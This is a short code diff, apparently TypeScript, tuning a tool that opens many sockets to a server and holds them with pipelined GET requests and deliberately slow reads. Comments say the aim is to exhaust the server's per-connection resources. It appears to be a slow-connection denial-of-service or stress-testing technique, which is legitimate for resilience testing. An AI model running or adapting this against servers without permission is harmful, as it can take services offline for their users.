@@ -38,7 +38,7 @@ const WAYS: readonly Way[] = [
   {
     words: '答复慢慢读',
     // More than the system itself keeps for a connection, so that the server is left with the rest.
-    begin: (host) => `GET ${LIST} HTTP/1.1\r\nhost: ${host}\r\n\r\n`.repeat(20),
+    begin: (host) => `GET ${LIST} HTTP/1.1\r\nhost: ${host}\r\n\r\n`.repeat(8),
     more: '',
     reads: false,
   },
@@ -112,7 +112,8 @@ async function crowd(count: number, { hostname, port, first, more, reads }: Slow
   const ticks = Array.from(sockets, (socket) =>
     setInterval(() => (reads ? socket.write(more) : socket.resume()), EVERY_MS * (0.5 + Math.random())),
   );
-  await sleep(EVERY_MS);
+  // What was asked for at once is answered by then: only the waiting is left.
+  await sleep(3 * EVERY_MS);
   return {
     held: () => sockets.size,
     end: () => {
